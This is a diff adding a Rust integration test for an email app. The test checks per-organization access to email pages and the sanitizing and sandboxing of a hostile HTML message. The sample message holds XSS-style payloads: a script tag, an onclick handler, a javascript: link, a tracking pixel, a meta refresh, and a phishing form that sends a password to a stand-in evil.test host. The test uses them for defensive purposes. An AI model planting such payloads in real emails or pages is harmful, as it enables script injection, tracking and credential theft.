@@ -1,0 +1,162 @@
+//! The email page: who sees it (the mailbox owner; colleagues once it is linked to a business
+//! or contact; nobody from another organization), and a hostile HTML body that is sanitized and
+//! served only inside a sandboxed frame with its own CSP.
+use reqwest::StatusCode;
+use threadline::accounts::{create_user, NewUser};
+use threadline::db::entities::emails;
+use threadline::domain::user::Role;
+use threadline::sync::sync_account;
+
+use sea_orm::EntityTrait;
+
+use crate::mailbox_fixtures::{all_accounts, linked_app, GMAIL};
+use crate::support::inspect::execute;
+use crate::support::TestApp;
+
+const HOSTILE: &str = "From: Eve <eve@evil.test>\r\nTo: ada@gmail-user.test\r\n\
+Subject: Quarterly numbers\r\nMessage-ID: <q-1@evil.test>\r\n\
+Date: Fri, 20 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n\
+Content-Type: text/html; charset=utf-8\r\n\r\n\
+<p onclick=\"steal()\">Numbers inside</p><script>alert(1)</script>\
+<img src=\"https://tracker.evil.test/pixel.gif\"><a href=\"javascript:alert(2)\">open</a>\
+<form action=\"https://evil.test/phish\"><input name=\"password\"></form>\
+<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test\">\r\n";
+
+async fn synced_hostile_email(app: &TestApp) -> i64 {
+    let res = app
+        .client
+        .post(app.emulator_url(&format!(
+            "/_emulator/mailboxes/{GMAIL}/messages?labels=INBOX"
+        )))
+        .header("Content-Type", "message/rfc822")
+        .body(HOSTILE)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::CREATED);
+    let account = all_accounts(app).await.remove(0);
+    sync_account(&app.deps, account.id).await.unwrap();
+    emails::Entity::find()
+        .one(&app.db)
+        .await
+        .unwrap()
+        .unwrap()
+        .id
+}
+
+#[tokio::test]
+async fn the_owner_reads_a_hostile_email_safely() {
+    let app = linked_app().await;
+    let id = synced_hostile_email(&app).await;
+
+    let page = app.get_html(&format!("/emails/{id}")).await;
+    assert!(page.contains("Quarterly numbers"));
+    assert!(page.contains("eve@evil.test"));
+    assert!(
+        page.contains(&format!(r#"src="/emails/{id}/body""#)),
+        "{page}"
+    );
+    assert!(page.contains(r#"sandbox="allow-popups allow-popups-to-escape-sandbox""#));
+    assert!(page.contains("Remote images are blocked"));
+    assert!(
+        !page.contains("<script>alert"),
+        "the body is never inlined in the page"
+    );
+
+    let res = app.get(&format!("/emails/{id}/body")).await;
+    assert_eq!(res.status(), StatusCode::OK);
+    let csp = res.headers()["content-security-policy"]
+        .to_str()
+        .unwrap()
+        .to_string();
+    assert!(csp.contains("default-src 'none'"), "{csp}");
+    assert!(csp.contains("sandbox allow-popups"), "{csp}");
+    assert!(csp.contains("img-src 'self' data:;"), "{csp}");
+    assert!(
+        !csp.contains("script-src"),
+        "no script source at all: {csp}"
+    );
+    let body = res.text().await.unwrap();
+    assert!(body.contains("Numbers inside"));
+    for bad in [
+        "<script",
+        "onclick",
+        "tracker.evil.test",
+        "javascript:",
+        "<form",
+        "<meta http-equiv",
+    ] {
+        assert!(!body.contains(bad), "{bad} in {body}");
+    }
+
+    // "Show images" lets remote images through, still without script.
+    let res = app.get(&format!("/emails/{id}/body?images=1")).await;
+    let csp = res.headers()["content-security-policy"]
+        .to_str()
+        .unwrap()
+        .to_string();
+    assert!(csp.contains("img-src 'self' data: https: http:"), "{csp}");
+    assert!(res
+        .text()
+        .await
+        .unwrap()
+        .contains("tracker.evil.test/pixel.gif"));
+}
+
+#[tokio::test]
+async fn colleagues_see_linked_mail_only_and_other_organizations_nothing() {
+    let app = linked_app().await;
+    let id = synced_hostile_email(&app).await;
+    let account = all_accounts(&app).await.remove(0);
+
+    app.create_user("bea@acme.test", "a long enough password 1", false)
+        .await;
+    let bea = app.other_browser();
+    bea.sign_in("bea@acme.test", "a long enough password 1")
+        .await;
+    for path in [format!("/emails/{id}"), format!("/emails/{id}/body")] {
+        assert_eq!(
+            bea.get(&path).await.status(),
+            StatusCode::NOT_FOUND,
+            "{path}"
+        );
+    }
+
+    // Linked to a business: the colleague sees it, with the reason.
+    let business = format!(
+        "INSERT INTO businesses (organization_id, name, notes, created_at, updated_at) \
+         VALUES ({}, 'Evil Corp', '', '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z')",
+        account.organization_id
+    );
+    execute(&app.db, &business).await;
+    let link = format!(
+        "INSERT INTO email_links (organization_id, email_id, business_id, source, reason, \
+         tombstone, received_at, created_at) SELECT {org}, {id}, id, 'auto', 'domain', false, \
+         '2026-11-20T10:00:00Z', '2026-11-20T10:00:00Z' FROM businesses WHERE name = 'Evil Corp'",
+        org = account.organization_id
+    );
+    execute(&app.db, &link).await;
+    let page = bea.get_html(&format!("/emails/{id}")).await;
+    assert!(page.contains("Evil Corp"), "{page}");
+    assert!(page.contains("a participant writes from this business"));
+
+    // Someone from another organization: not found, whatever the id.
+    let other = threadline::db::organizations::create(&app.db, "Other Co")
+        .await
+        .unwrap();
+    let new = NewUser::parse("olga@other.test", "Olga", "a long enough password 2").unwrap();
+    create_user(&app.db, other.id, None, new, Role::Admin)
+        .await
+        .unwrap();
+    let olga = app.other_browser();
+    olga.sign_in("olga@other.test", "a long enough password 2")
+        .await;
+    assert_eq!(
+        olga.get(&format!("/emails/{id}")).await.status(),
+        StatusCode::NOT_FOUND
+    );
+    assert_eq!(
+        olga.get(&format!("/emails/{id}/body")).await.status(),
+        StatusCode::NOT_FOUND
+    );
+}
